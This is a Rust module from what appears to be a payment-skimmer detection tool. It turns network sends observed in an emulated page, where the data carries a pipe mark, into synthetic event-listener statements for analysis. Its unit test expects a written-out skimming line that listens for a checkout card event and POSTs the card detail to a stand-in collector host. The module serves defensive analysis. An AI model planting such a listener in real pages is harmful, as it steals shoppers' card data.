//! What a script received through a pipe and sent on, seen on the stub page. A script that
//! listens for another script's event (`checkout:card-ready`) and posts its `detail`
//! somewhere only a run resolves (a webpack module's config, a decoded address) hands card
//! data on when the other script puts card data in: the page-level join of pipes decides
//! that, and needs the host. The stub page fires every event type a script listens for with
//! a marked `detail`, and a window that listens for messages gets one with marked `data`
//! (`emulate.js`, `pipeMark`): each of its properties, its text and its
//! JSON carry `skpipe<N>x`. A send carrying the mark is written back as the listener it
//! stands for, sending the event's `detail` the same way, so the ordinary analysis records
//! the pipe read and the host, and the join names it. The mark is no card data: alone, such a
//! line reports nothing.

use super::emulate::Observed;
use super::statements::sent_as;

/// The statements for the sends that carried a pipe's mark.
pub(super) fn lines(observed: &Observed) -> Vec<String> {
    let mut out = Vec::new();
    for (how, url, data) in &observed.sends {
        let url = url.trim();
        if !(url.starts_with("https://") || url.starts_with("http://") || url.starts_with("wss://"))
        {
            continue;
        }
        for (n, key) in &observed.pipes {
            let mark = format!("skpipe{n}x");
            if !(url.contains(&mark) || data.contains(&mark)) {
                continue;
            }
            // The listener the mark stands for, and what of its event it sends.
            let (target, kind, part) = match key.strip_prefix("event:") {
                Some(kind) => ("document", kind, "detail"),
                None if key == "message" => ("window", "message", "data"),
                None => continue,
            };
            let kind = serde_json::to_string(kind).unwrap_or_default();
            if let Some(send) = sent_as(how, url, Some(format!("JSON.stringify(e.{part})"))) {
                out.push(format!(
                    "{target}.addEventListener({kind}, function (e) {{ {send} }});"
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_marked_send_becomes_the_listener_it_stands_for() {
        let observed = Observed {
            origin: "https://www.shop.example".into(),
            reads: Vec::new(),
            sends: vec![
                (
                    "fetch".into(),
                    "https://collect.tag-cdn.example/g?tid=1".into(),
                    "{\"p\":\"skpipe0x\"}".into(),
                ),
                (
                    "img".into(),
                    "https://other.example/p.gif".into(),
                    String::new(),
                ),
            ],
            pipes: vec![(0, "event:checkout:card-ready".into())],
            drops: Vec::new(),
            card_names: Vec::new(),
            asked_ids: Vec::new(),
        };
        assert_eq!(
            lines(&observed),
            vec![
                "document.addEventListener(\"checkout:card-ready\", function (e) { fetch(\"https://collect.tag-cdn.example/g\", { method: \"POST\", body: JSON.stringify(e.detail) }); });"
                    .to_string()
            ]
        );
        // No mark in what was sent: nothing.
        let quiet = Observed {
            pipes: vec![(1, "event:x".into())],
            ..observed
        };
        assert!(lines(&quiet).is_empty());
    }
}
